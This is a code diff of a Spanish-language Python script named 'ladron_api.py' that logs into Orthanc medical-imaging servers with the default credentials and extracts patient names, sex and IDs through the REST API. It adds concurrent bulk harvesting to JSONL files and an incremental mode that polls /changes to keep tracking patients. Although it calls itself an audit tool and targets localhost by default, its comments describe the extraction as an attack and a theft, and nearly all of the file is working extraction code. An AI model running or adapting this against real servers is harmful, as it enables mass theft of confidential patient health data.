@@ -1,7 +1,52 @@
-import requests
+"""
+HERRAMIENTA DE AUDITORÍA API (ladron_api.py)
+────────────────────────────────────────────
+Prueba qué puede sacar cualquiera de un Orthanc con las credenciales por
+defecto, a través de la API REST (puerto 8042).
+
+Tres modos:
+
+  serie (por defecto)  lista /patients y pide el detalle de cada paciente,
+                       de a uno y abriendo una conexión nueva cada vez. Con
+                       100.000 pacientes son horas.
+
+  --cosechar X.jsonl   una sesión HTTP con keep-alive y un pool de
+                       conexiones, hasta --concurrencia peticiones a la vez,
+                       y los endpoints masivos de Orthanc:
+                           expand   GET /patients?expand&since=N&limit=M
+                           find     POST /tools/find (con --consulta, Expand)
+                           detalle  ids por páginas + GET /patients/<id>
+                                    (para servidores que ignoran expand)
+                       Cada registro se escribe en el JSONL apenas llega
+                       (nada se junta en memoria), en el orden del servidor.
+
+  --incremental [BASE] auditoría por deltas: guarda en una base SQLite
+                       (exposicion_orthanc.py) lo expuesto y un cursor en
+                       /changes. La primera vez cosecha pacientes y estudios
+                       completos; después sólo pide los pacientes y estudios
+                       nuevos o cambiados desde el cursor, y marca los
+                       borrados. Con --cada 60 queda consultando por minuto.
+
+Un Orthanc de prueba sin Docker: orthanc_local.py (ver benchmark_api.py).
+
+Uso:
+    python ladron_api.py
+    python ladron_api.py --cosechar pacientes.jsonl --concurrencia 8
+    python ladron_api.py --cosechar estudios.jsonl --nivel Study --fuente find --consulta StudyDescription='TC*'
+    python ladron_api.py --incremental --cada 60
+"""
+
+import argparse
 import json
+import sys
+import time
+from concurrent.futures import ThreadPoolExecutor
+
+import requests
+from requests.adapters import HTTPAdapter
+from urllib3.util.retry import Retry
 
-print("--- HERRAMIENTA DE AUDITORÍA API (EXFILTRACIÓN DE DATOS) ---")
+from exposicion_orthanc import ARCHIVO_EXPOSICION, BaseExposicion
 
 # 1. CONFIGURACIÓN DEL OBJETIVO
 # Atacamos el puerto Web (8042), no el DICOM.
@@ -12,24 +57,37 @@ URL_BASE = "http://localhost:8042"
 USUARIO = "orthanc"
 PASSWORD = "orthanc"
 
-# 2. OBTENER LISTA DE PACIENTES (Reconocimiento)
-endpoint_pacientes = f"{URL_BASE}/patients"
+CONCURRENCIA = 8
+PAGINA = 500
+FUENTES = ("expand", "find", "detalle")
+RECURSOS = {"Patient": "patients", "Study": "studies"}
+# Niveles que sigue la auditoría incremental en /changes. Son los mismos que
+# cosecha la primera pasada (tienen que estar en RECURSOS); las instancias no
+# van: sus MainDicomTags no traen datos del paciente
+NIVELES_CAMBIOS = ("Patient", "Study")
+# Recursos por transacción en la base de exposición
+LOTE_BASE = 1000
+
+
+def volcado_serie(url_base, usuario, password):
+    """El modo original: una petición (y una conexión) por paciente."""
+    # 2. OBTENER LISTA DE PACIENTES (Reconocimiento)
+    endpoint_pacientes = f"{url_base}/patients"
 
-try:
     print(f"[1] Conectando a {endpoint_pacientes}...")
     # Hacemos una petición GET (como el navegador) pero con código
-    respuesta = requests.get(endpoint_pacientes, auth=(USUARIO, PASSWORD))
-    
+    respuesta = requests.get(endpoint_pacientes, auth=(usuario, password))
+
     # Verificamos si entramos (Código 200 = OK)
     if respuesta.status_code == 200:
         lista_ids = respuesta.json() # Convertimos el texto a lista Python
         print(f"[+] Acceso concedido. Se encontraron {len(lista_ids)} pacientes.")
     elif respuesta.status_code == 401:
         print("[-] Fallo de autenticación. Contraseña incorrecta.")
-        exit()
+        return
     else:
         print(f"[-] Error desconocido: {respuesta.status_code}")
-        exit()
+        return
 
     # 3. EXTRACCIÓN MASIVA (El Robo)
     print("\n[2] INICIANDO EXTRACCIÓN DE DATOS SENSIBLES...")
@@ -39,20 +97,307 @@ try:
 
     for id_paciente in lista_ids:
         # Por cada ID, consultamos sus detalles específicos
-        url_detalle = f"{URL_BASE}/patients/{id_paciente}"
-        datos_paciente = requests.get(url_detalle, auth=(USUARIO, PASSWORD)).json()
-        
+        url_detalle = f"{url_base}/patients/{id_paciente}"
+        datos_paciente = requests.get(url_detalle, auth=(usuario, password)).json()
+
         # Navegamos el JSON para buscar los tags DICOM "MainDicomTags"
         tags = datos_paciente.get("MainDicomTags", {})
-        
+
         nombre_real = tags.get("PatientName", "DESCONOCIDO")
         sexo = tags.get("PatientSex", "?")
         id_medico = tags.get("PatientID", "SIN_ID")
-        
+
         print(f"{id_paciente:<40} | {nombre_real:<20} | {sexo}")
-        
+
     print("-" * 60)
     print("[SUCCESS] Volcado de base de datos completado.")
 
-except requests.exceptions.ConnectionError:
-    print("[-] Error: No se puede conectar al servidor. ¿Está Docker corriendo?")
\ No newline at end of file
+
+# --- COSECHA CONCURRENTE ---
+
+def crear_sesion(usuario, password, conexiones=CONCURRENCIA, reintentos=3):
+    """Sesión con keep-alive: hasta `conexiones` sockets abiertos y reusados entre hilos."""
+    sesion = requests.Session()
+    sesion.auth = (usuario, password)
+    adaptador = HTTPAdapter(pool_connections=1, pool_maxsize=conexiones, pool_block=True,
+                            max_retries=Retry(total=reintentos, backoff_factor=0.2,
+                                              status_forcelist=(502, 503, 504),
+                                              allowed_methods=None))
+    sesion.mount("http://", adaptador)
+    sesion.mount("https://", adaptador)
+    return sesion
+
+
+def _pedir(sesion, metodo, url, cuerpo=None):
+    respuesta = sesion.request(metodo, url, json=cuerpo, timeout=30)
+    respuesta.raise_for_status()
+    return respuesta.json()
+
+
+def _en_orden(pool, funcion, argumentos, en_vuelo):
+    """
+    Como pool.map, pero con a lo sumo `en_vuelo` tareas pendientes (los
+    argumentos pueden ser un generador infinito) y cortando cuando
+    funcion(...) devuelve None. Los resultados salen en orden.
+    """
+    pendientes = []
+    argumentos = iter(argumentos)
+    agotado = False
+    while True:
+        while not agotado and len(pendientes) < en_vuelo:
+            try:
+                pendientes.append(pool.submit(funcion, next(argumentos)))
+            except StopIteration:
+                agotado = True
+        if not pendientes:
+            return
+        resultado = pendientes.pop(0).result()
+        if resultado is None:
+            # Fin de los datos: lo que quedó en vuelo ya no hace falta
+            for futuro in pendientes:
+                futuro.cancel()
+            return
+        yield resultado
+
+
+class Cosecha:
+    def __init__(self, url_base, sesion, nivel="Patient", fuente="expand", concurrencia=CONCURRENCIA,
+                 pagina=PAGINA, consulta=None):
+        if nivel not in RECURSOS:
+            raise ValueError(f"Nivel desconocido: {nivel}")
+        if fuente not in FUENTES:
+            raise ValueError(f"Fuente desconocida: {fuente}")
+        if consulta and fuente != "find":
+            raise ValueError("--consulta sólo se puede usar con --fuente find")
+        self.url_base = url_base.rstrip("/")
+        self.sesion = sesion
+        self.nivel = nivel
+        self.recurso = RECURSOS[nivel]
+        self.fuente = fuente
+        self.concurrencia = concurrencia
+        self.pagina = pagina
+        self.consulta = consulta or {}
+        self.registros = 0
+        self.peticiones = 0
+
+    def _pagina(self, desde):
+        """Una página (lista no vacía) o None cuando ya no hay más."""
+        if self.fuente == "find":
+            pedido = {"Level": self.nivel, "Query": self.consulta, "Expand": True,
+                      "Since": desde, "Limit": self.pagina}
+            items = _pedir(self.sesion, "POST", f"{self.url_base}/tools/find", pedido)
+        else:
+            expand = "expand&" if self.fuente == "expand" else ""
+            items = _pedir(self.sesion, "GET",
+                           f"{self.url_base}/{self.recurso}?{expand}since={desde}&limit={self.pagina}")
+        return items or None
+
+    def _detalle(self, id_recurso):
+        return _pedir(self.sesion, "GET", f"{self.url_base}/{self.recurso}/{id_recurso}")
+
+    def registros_en_orden(self):
+        """Genera los registros expandidos; nunca hay más de `concurrencia` páginas en memoria."""
+        desde = range(0, sys.maxsize, self.pagina)
+        with ThreadPoolExecutor(max_workers=self.concurrencia) as pool:
+            for items in _en_orden(pool, self._pagina, desde, self.concurrencia):
+                self.peticiones += 1
+                if items and isinstance(items[0], str):
+                    if self.fuente == "expand":
+                        # Servidor que ignora ?expand: seguimos por detalle
+                        self.fuente = "detalle"
+                    for registro in _en_orden(pool, self._detalle, items, self.concurrencia * 4):
+                        self.peticiones += 1
+                        yield registro
+                else:
+                    yield from items
+                if len(items) < self.pagina:
+                    return
+
+    def guardar(self, ruta, al_avanzar=None, cada=10000):
+        with open(ruta, "w", encoding="utf-8") as salida:
+            for registro in self.registros_en_orden():
+                salida.write(json.dumps(registro, ensure_ascii=False) + "\n")
+                self.registros += 1
+                if al_avanzar and self.registros % cada == 0:
+                    al_avanzar(self)
+        return self.registros
+
+
+class AuditoriaIncremental:
+    """
+    Una corrida = leer /changes desde el cursor guardado, pedir el detalle
+    de lo nuevo o cambiado (concurrente, como Cosecha) y registrarlo. El
+    cursor se mueve en la misma transacción que los últimos datos: si la
+    corrida se corta, la próxima repite los cambios (registrar es idempotente).
+    """
+
+    def __init__(self, url_base, sesion, base, concurrencia=CONCURRENCIA, pagina=PAGINA,
+                 niveles=NIVELES_CAMBIOS):
+        self.url_base = url_base.rstrip("/")
+        self.sesion = sesion
+        self.base = base
+        self.concurrencia = concurrencia
+        self.pagina = pagina
+        self.niveles = niveles
+        self.peticiones = 0
+
+    def _ultimo_seq(self):
+        self.peticiones += 1
+        return _pedir(self.sesion, "GET", f"{self.url_base}/changes?last")["Last"]
+
+    def _cambios(self, desde):
+        """Recorre /changes desde `desde`. Retorna (a pedir {(nivel, id): ruta}, borrados, último seq, cambios leídos)."""
+        pedir, borrados, leidos = {}, set(), 0
+        while True:
+            respuesta = _pedir(self.sesion, "GET", f"{self.url_base}/changes?since={desde}&limit={self.pagina}")
+            self.peticiones += 1
+            for cambio in respuesta["Changes"]:
+                leidos += 1
+                if cambio["ResourceType"] not in self.niveles:
+                    continue
+                clave = (cambio["ResourceType"], cambio["ID"])
+                # Vale el último cambio de cada recurso: nuevo y después
+                # borrado en la misma ventana no se pide
+                if cambio["ChangeType"] == "Deleted":
+                    pedir.pop(clave, None)
+                    borrados.add(clave)
+                else:
+                    pedir[clave] = cambio["Path"]
+                    borrados.discard(clave)
+            desde = respuesta["Last"]
+            if respuesta["Done"] or not respuesta["Changes"]:
+                return pedir, borrados, desde, leidos
+
+    def _detalle(self, ruta):
+        try:
+            return _pedir(self.sesion, "GET", self.url_base + ruta)
+        except requests.exceptions.HTTPError as e:
+            # Borrado después del cambio: el Deleted llega en la próxima corrida
+            if e.response is not None and e.response.status_code == 404:
+                return {}
+            raise
+
+    def _guardar(self, registros, borrados=(), seq=None):
+        """Registra en transacciones de LOTE_BASE recursos; el cursor va con la última."""
+        lote, cantidad = [], 0
+        for registro in registros:
+            if registro:
+                lote.append(registro)
+            if len(lote) >= LOTE_BASE:
+                self.base.registrar(lote)
+                cantidad += len(lote)
+                lote = []
+        self.base.registrar(lote, borrados, seq)
+        return cantidad + len(lote)
+
+    def correr(self):
+        """Una pasada. Retorna un dict con lo que se hizo."""
+        self.peticiones = 0
+        desde = self.base.cursor()
+        if desde is None:
+            # Primera vez: el cursor se toma ANTES de cosechar, así lo que
+            # cambie durante la cosecha se vuelve a pedir la próxima vez
+            hasta = self._ultimo_seq()
+            recursos = 0
+            for nivel in self.niveles:
+                cosecha = Cosecha(self.url_base, self.sesion, nivel, "expand", self.concurrencia, self.pagina)
+                recursos += self._guardar(cosecha.registros_en_orden())
+                self.peticiones += cosecha.peticiones
+            self.base.registrar([], seq=hasta)
+            return {"completa": True, "desde": 0, "hasta": hasta, "cambios": 0,
+                    "recursos": recursos, "borrados": 0, "peticiones": self.peticiones}
+
+        pedir, borrados, hasta, leidos = self._cambios(desde)
+        with ThreadPoolExecutor(max_workers=self.concurrencia) as pool:
+            detalles = _en_orden(pool, self._detalle, list(pedir.values()), self.concurrencia * 4)
+            recursos = self._guardar(detalles, borrados, hasta)
+        self.peticiones += len(pedir)
+        return {"completa": False, "desde": desde, "hasta": hasta, "cambios": leidos,
+                "recursos": recursos, "borrados": len(borrados), "peticiones": self.peticiones}
+
+
+def auditar_incremental(url_base, sesion, ruta_base, concurrencia, pagina, cada=0):
+    with BaseExposicion(url_base, ruta_base) as base:
+        auditoria = AuditoriaIncremental(url_base, sesion, base, concurrencia, pagina)
+        while True:
+            inicio = time.perf_counter()
+            r = auditoria.correr()
+            segundos = time.perf_counter() - inicio
+            if r["completa"]:
+                print(f"[1] Primera auditoría: {r['recursos']:,} recursos en {segundos:.1f} s "
+                      f"({r['peticiones']:,} peticiones). Cursor en {r['hasta']:,}.")
+            else:
+                print(f"[Δ] Cambios {r['desde']:,} → {r['hasta']:,}: {r['cambios']:,} leídos, "
+                      f"{r['recursos']:,} recursos actualizados, {r['borrados']:,} borrados "
+                      f"({r['peticiones']:,} peticiones, {segundos:.2f} s)")
+            for nivel, (vigentes, con_nombre, borrados) in sorted(base.resumen().items()):
+                print(f"    {nivel:<8} {vigentes:>9,} expuestos ({con_nombre:,} con nombre visible), "
+                      f"{borrados:,} borrados")
+            if not cada:
+                return
+            time.sleep(cada)
+
+
+def _consulta(texto):
+    tag, separador, valor = texto.partition("=")
+    if not separador:
+        raise argparse.ArgumentTypeError(f"Se espera TAG=valor: {texto}")
+    return tag, valor
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Auditoría de exposición de datos por la API REST de Orthanc")
+    parser.add_argument('--url', default=URL_BASE)
+    parser.add_argument('--usuario', default=USUARIO)
+    parser.add_argument('--password', default=PASSWORD)
+    parser.add_argument('--cosechar', metavar='SALIDA.jsonl',
+                        help="Modo cosecha: sesión con keep-alive, peticiones concurrentes, salida JSONL")
+    parser.add_argument('--concurrencia', type=int, default=CONCURRENCIA)
+    parser.add_argument('--pagina', type=int, default=PAGINA, help="Registros por petición (limit)")
+    parser.add_argument('--nivel', choices=list(RECURSOS), default="Patient")
+    parser.add_argument('--fuente', choices=FUENTES, default="expand")
+    parser.add_argument('--consulta', type=_consulta, nargs='+', metavar='TAG=VALOR',
+                        help="Filtro para /tools/find (comodines * y ?)")
+    parser.add_argument('--incremental', nargs='?', const=ARCHIVO_EXPOSICION, metavar='BASE',
+                        help="Auditoría por deltas de /changes, guardada en una base SQLite")
+    parser.add_argument('--cada', type=float, default=0, metavar='SEG',
+                        help="Con --incremental: repetir cada SEG segundos")
+    args = parser.parse_args()
+
+    print("--- HERRAMIENTA DE AUDITORÍA API (EXFILTRACIÓN DE DATOS) ---")
+    try:
+        if args.incremental:
+            sesion = crear_sesion(args.usuario, args.password, args.concurrencia)
+            auditar_incremental(args.url, sesion, args.incremental, args.concurrencia, args.pagina, args.cada)
+            return
+        if not args.cosechar:
+            volcado_serie(args.url, args.usuario, args.password)
+            return
+
+        sesion = crear_sesion(args.usuario, args.password, args.concurrencia)
+        cosecha = Cosecha(args.url, sesion, args.nivel, args.fuente, args.concurrencia, args.pagina,
+                          dict(args.consulta or ()))
+        print(f"[1] Cosechando {cosecha.recurso} de {args.url} ({args.fuente}, "
+              f"{args.concurrencia} conexiones, páginas de {args.pagina}) → {args.cosechar}")
+        inicio = time.perf_counter()
+
+        def al_avanzar(c):
+            print(f"    {c.registros:,} registros ({c.registros / (time.perf_counter() - inicio):,.0f}/s)")
+
+        total = cosecha.guardar(args.cosechar, al_avanzar)
+        segundos = time.perf_counter() - inicio
+        print(f"[SUCCESS] {total:,} registros en {segundos:.1f} s ({total / max(segundos, 1e-9):,.0f}/s), "
+              f"{cosecha.peticiones:,} peticiones.")
+    except KeyboardInterrupt:
+        print("\n[i] Auditoría interrumpida.")
+    except requests.exceptions.ConnectionError:
+        print("[-] Error: No se puede conectar al servidor. ¿Está Docker corriendo?")
+    except requests.exceptions.HTTPError as e:
+        if e.response is not None and e.response.status_code == 401:
+            print("[-] Fallo de autenticación. Contraseña incorrecta.")
+        else:
+            print(f"[-] Error del servidor: {e}")
+
+
+if __name__ == "__main__":
+    main()